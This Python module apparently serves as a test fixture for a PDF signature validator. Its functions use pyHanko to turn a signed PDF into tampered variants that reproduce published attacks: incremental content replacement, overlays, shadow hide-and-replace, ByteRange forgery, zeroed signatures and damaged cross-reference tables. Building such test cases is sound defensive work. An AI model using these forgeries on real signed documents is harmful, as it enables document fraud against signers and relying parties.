"""Builders of attack files: each takes a signed PDF and returns it changed the way a published attack does."""

from __future__ import annotations

from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(data), strict=False)


def _out(w: IncrementalPdfFileWriter) -> bytes:
    buf = BytesIO()
    w.write(buf)
    return buf.getvalue()


def signed_range_flip(data: bytes) -> bytes:
    """Flip one byte of the page text inside the signed range (integrity attack)."""
    at = data.index(b"trang 1") if b"trang 1" in data else 200
    return data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1:]


def incremental_content_change(data: bytes) -> bytes:
    """Incremental Saving Attack: a later revision replaces the page's content stream."""
    w = _writer(data)
    page_ref = w.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 720 Td (Tien phat: 1 ty dong) Tj ET")
    page[generic.NameObject("/Contents")] = w.add_object(stream)
    w.update_container(page)
    return _out(w)


def added_page(data: bytes) -> bytes:
    """A page added after signing."""
    w = _writer(data)
    w.insert_page(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Page"),
        generic.NameObject("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/Contents"): w.add_object(generic.StreamObject(stream_data=b"")),
        generic.NameObject("/Resources"): generic.DictionaryObject(),
    }))
    return _out(w)


def overlay_annotation(data: bytes) -> bytes:
    """Overlay: a square annotation with an opaque appearance added over the page after signing."""
    w = _writer(data)
    page_ref = w.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    annot = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Square"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
        generic.NameObject("/P"): page_ref,
    })
    annots = page.get("/Annots")
    arr = generic.ArrayObject(list(annots) if annots is not None else [])
    arr.append(w.add_object(annot))
    page[generic.NameObject("/Annots")] = arr
    w.update_container(page)
    return _out(w)


def set_field_value(data: bytes, name: str, value: str) -> bytes:
    """Set the value of text field ``name`` (dotted for nested fields) in a new revision: fill it, or
    replace it (the shadow attack)."""
    w = _writer(data)
    stack = [(ref, "") for ref in w.root["/AcroForm"]["/Fields"]]
    while stack:
        ref, prefix = stack.pop()
        field = ref.get_object()
        part = field.get("/T")
        full = f"{prefix}.{part}" if prefix and part is not None else str(part or prefix)
        if full == name:
            field[generic.NameObject("/V")] = generic.TextStringObject(value)
            w.update_container(field)
            return _out(w)
        stack.extend((kid, full) for kid in field.get("/Kids", ()))
    raise LookupError(name)


def append_garbage(data: bytes) -> bytes:
    """Bytes appended after %%EOF that form no revision."""
    return data + b"\n% appended by someone\n1 0 obj (x) endobj\n"


def forge_byte_range(data: bytes, replacement: bytes) -> bytes:
    """Universal Signature Forgery / wrapping: overwrite the last /ByteRange with ``replacement`` (padded)."""
    import re

    last = list(re.finditer(rb"/ByteRange\s*\[[^\]]*\]", data))[-1]
    new = b"/ByteRange " + replacement
    new = new.ljust(last.end() - last.start(), b" ")
    assert len(new) == last.end() - last.start()
    return data[:last.start()] + new + data[last.end():]


def empty_contents(data: bytes) -> bytes:
    """Universal Signature Forgery: the last signature value zeroed (same length)."""
    start = data.rindex(b"/Contents <") + len(b"/Contents <")
    end = data.index(b">", start)
    return data[:start] + b"0" * (end - start) + data[end:]


# -- shadow attacks (Mainka et al., 2021): content prepared before signing, switched after ------------------
def prepare_shadow(data: bytes) -> bytes:
    """Before signing: page 1 draws a form XObject ``/Cover`` (a white box over the page's text), as the
    shadow attacker's document does."""
    w = _writer(data)
    page_ref = w.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    cover = w.add_object(generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/Resources"): generic.DictionaryObject(),
    }, stream_data=b"1 1 1 rg 20 795 320 25 re f"))
    resources = page["/Resources"]
    xobjects = generic.DictionaryObject(dict(resources.get("/XObject", {})))
    xobjects[generic.NameObject("/Cover")] = cover
    new_resources = generic.DictionaryObject(dict(resources))
    new_resources[generic.NameObject("/XObject")] = xobjects
    page[generic.NameObject("/Resources")] = new_resources
    draw = w.add_object(generic.StreamObject(stream_data=b"q /Cover Do Q"))
    contents = page.raw_get("/Contents")
    page[generic.NameObject("/Contents")] = generic.ArrayObject(
        [*(contents if isinstance(contents, generic.ArrayObject) else [contents]), draw])
    w.update_container(page)
    return _out(w)


def _rewrite_cover(data: bytes, content: bytes, resources: generic.DictionaryObject | None = None) -> bytes:
    w = _writer(data)
    page = w.find_page_for_modification(0)[0].get_object()
    ref = page["/Resources"]["/XObject"].raw_get("/Cover")
    stream = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/Resources"): resources if resources is not None else generic.DictionaryObject(),
    }, stream_data=content)
    w.mark_update(ref)
    w.objects[(ref.generation, ref.idnum)] = stream
    return _out(w)


def shadow_hide(data: bytes) -> bytes:
    """Shadow hide: after signing, the cover object is rewritten in place, empty: the hidden text appears."""
    return _rewrite_cover(data, b"")


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Shadow hide-and-replace: after signing, the cover object is rewritten to show other text."""
    font = generic.DictionaryObject({generic.NameObject("/Type"): generic.NameObject("/Font"),
                                     generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
                                     generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica")})
    res = generic.DictionaryObject({generic.NameObject("/Font"): generic.DictionaryObject(
        {generic.NameObject("/F9"): font})})
    return _rewrite_cover(data, b"1 1 1 rg 20 795 320 25 re f BT /F9 12 Tf 31 804 Td (Tien phat: 1 ty dong) Tj ET",
                          res)


def tounicode_cmap(*, ranges: int = 0, chars: int = 0, span: bytes = b"<0000> <FFFF> <0000>") -> bytes:
    """A ToUnicode CMap with ``ranges`` copies of the bfrange ``span`` and ``chars`` bfchar entries (the review's
    113 KB file: 5,400 ranges ``<0000> <FFFF> <0000>``)."""
    out = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
    out += b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
    out += b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
    if ranges:
        out += b"%d beginbfrange\n" % ranges + (span + b"\n") * ranges + b"endbfrange\n"
    if chars:
        out += b"%d beginbfchar\n" % chars + b"".join(b"<%04X> <%04X>\n" % (i % 65536, 0x41 + i % 26)
                                                     for i in range(chars)) + b"endbfchar\n"
    return out + b"endcmap CMapName currentdict /CMap defineresource pop end end\n"


def field_with_appearance(data: bytes, name: str, content: bytes, cmap: bytes | None = None) -> bytes:
    """``data`` with an empty signature field ``name`` whose widget already has a normal appearance showing
    ``content`` in a Type0 font with the ToUnicode ``cmap`` (signing the field keeps an invisible field's
    appearance, so the appearance is then covered by the signature)."""
    from pyhanko.sign import fields

    w = _writer(data)
    font = generic.DictionaryObject({generic.NameObject("/Type"): generic.NameObject("/Font"),
                                     generic.NameObject("/Subtype"): generic.NameObject("/Type0"),
                                     generic.NameObject("/BaseFont"): generic.NameObject("/Hostile")})
    if cmap is not None:
        font[generic.NameObject("/ToUnicode")] = w.add_object(generic.StreamObject(stream_data=cmap))
    appearance = w.add_object(generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 50)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({generic.NameObject("/Font"): (
            generic.DictionaryObject({generic.NameObject("/F1"): font}))}),
    }, stream_data=content))
    fields.append_signature_field(w, fields.SigFieldSpec(name))
    node = w.root["/AcroForm"]["/Fields"][-1].get_object()
    while "/Kids" in node:
        node = node["/Kids"][0].get_object()
    node[generic.NameObject("/AP")] = generic.DictionaryObject({generic.NameObject("/N"): appearance})
    w.update_container(node)
    return _out(w)


# -- signatures cut off from the document's structure (issue 13/18: "a signature present and not verified") ----
def _last_signature_objects(data: bytes) -> tuple[int, int]:
    """(field object, signature dictionary object) of the last signature, read with pyHanko."""
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign.fields import enumerate_sig_fields

    reader = PdfFileReader(BytesIO(data), strict=False)
    *_, (_name, value, field) = enumerate_sig_fields(reader, filled_status=True)
    return field.reference.idnum, value.reference.idnum


def damage_xref_entry(data: bytes, which: str = "field", how: str = "subsection") -> bytes:
    """One byte of the last cross-reference table changed so that pyHanko's lenient parser drops the entry of
    the last signature's field (``which="field"``) or dictionary (``"dictionary"``): ``how="subsection"`` the
    line end after the subsection header ``N 1`` (the fuzz finding), ``"marker"`` the entry's ``n``."""
    field, sig = _last_signature_objects(data)
    number = field if which == "field" else sig
    table = data.rindex(b"\nxref\n")
    header = data.index(b"\n%d 1\n" % number, table) + 1
    if how == "subsection":
        at = header + len(b"%d 1" % number)
        new = b"S"
    else:
        at = header + len(b"%d 1\n" % number) + 17
        assert data[at:at + 1] == b"n"
        new = b"x"
    return data[:at] + new + data[at + 1:]


def drop_field_value(data: bytes) -> bytes:
    """The last signature field's ``/V 18 0 R`` blanked in place (same length): the field reads as empty and
    its signature dictionary is reached from nothing."""
    field, sig = _last_signature_objects(data)
    start = data.rindex(b"\n%d 0 obj" % field)
    at = data.index(b"/V %d 0 R" % sig, start)
    text = b"/V %d 0 R" % sig
    return data[:at] + b" " * len(text) + data[at + len(text):]


def remove_field_from_form(data: bytes) -> bytes:
    """An incremental update that takes the last signature field out of its parent's ``/Kids`` (or out of
    ``/Fields``): its signature is in the file and no field leads to it."""
    field, _sig = _last_signature_objects(data)
    w = _writer(data)
    form = w.root["/AcroForm"]
    stack = [(form, "/Fields")]
    while stack:
        holder, key = stack.pop()
        kids = holder[key]
        for i, ref in enumerate(kids):
            if ref.idnum == field:
                kids_copy = generic.ArrayObject(k for j, k in enumerate(kids) if j != i)
                holder[generic.NameObject(key)] = kids_copy
                w.update_container(holder)
                return _out(w)
            kid = ref.get_object()
            if "/Kids" in kid:
                stack.append((kid, "/Kids"))
    raise LookupError(field)


def orphan_last_revision(data: bytes) -> bytes:
    """The last revision (the last signature's) left in the file but cut out of the chain of sections: an
    empty revision is appended whose ``/Prev`` skips it, so no cross-reference section lists its objects."""
    import re

    starts = [int(m[1]) for m in re.finditer(rb"startxref\s+(\d+)\s+%%EOF", data)]
    trailer_at = data.rindex(b"trailer")
    trailer = data[trailer_at:data.index(b">>", trailer_at) + 2]
    trailer = re.sub(rb"/Prev\s+\d+", b"/Prev %d" % starts[-2], trailer)
    body = data if data.endswith(b"\n") else data + b"\n"
    xref_at = len(body)
    return body + b"xref\n0 1\n0000000000 65535 f \n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref_at


def embed_uncompressed(data: bytes, payload: bytes) -> bytes:
    """An honest update before signing: ``payload`` (a signed PDF) embedded as an uncompressed file stream
    listed in the catalog's ``/Names /EmbeddedFiles``; its ``/ByteRange`` keys are stream content."""
    w = _writer(data)
    stream = w.add_object(generic.StreamObject({generic.NameObject("/Type"): generic.NameObject("/EmbeddedFile")},
                                               stream_data=payload))
    spec = w.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Filespec"),
        generic.NameObject("/F"): generic.TextStringObject("phu-luc.pdf"),
        generic.NameObject("/EF"): generic.DictionaryObject({generic.NameObject("/F"): stream}),
    }))
    names = generic.DictionaryObject({generic.NameObject("/EmbeddedFiles"): generic.DictionaryObject({
        generic.NameObject("/Names"): generic.ArrayObject([generic.TextStringObject("phu-luc.pdf"), spec])})})
    w.root[generic.NameObject("/Names")] = names
    w.update_root()
    return _out(w)


def damage_first_entry(data: bytes) -> bytes:
    """The marker of the first entry in use of the last cross-reference table changed (``n`` → ``x``): pyHanko
    skips the entry and reads that object as the earlier revision has it; a viewer that rebuilds the table
    from the objects reads the new one."""
    table = data.rindex(b"\nxref\n")
    at = data.index(b" 00000 n", table) + 7
    return data[:at] + b"x" + data[at + 1:]
